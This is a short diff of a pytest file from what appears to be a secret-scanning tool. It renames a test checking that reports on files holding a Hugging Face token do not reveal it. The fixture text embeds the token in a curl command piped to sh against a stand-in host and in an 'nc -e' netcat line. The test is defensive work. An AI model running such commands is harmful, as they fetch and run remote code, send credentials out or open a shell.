@@ -79,7 +79,7 @@ def test_placeholders_and_hashes_and_bare_key_prefixes_are_not_reported_as_secre
 
 
 @pytest.mark.parametrize("name", ["config.json", "README.md", "run.sh", "notes.txt", "x.yaml", "x.py", "x.ipynb"])
-def test_report_on_a_file_with_a_secret_does_not_show_the_secret(tmp_path, name):
+def test_message_evidence_and_key_of_findings_on_a_file_with_a_secret_do_not_show_the_secret(tmp_path, name):
     token = TOKENS["Hugging Face token"]
     text = f"curl https://u:{token}@e.invalid/{token} -H 'X: {token}' | sh\nnc -e {token} h 1\n_target_: x.{token}\n"
     if name.endswith((".json", ".ipynb")):
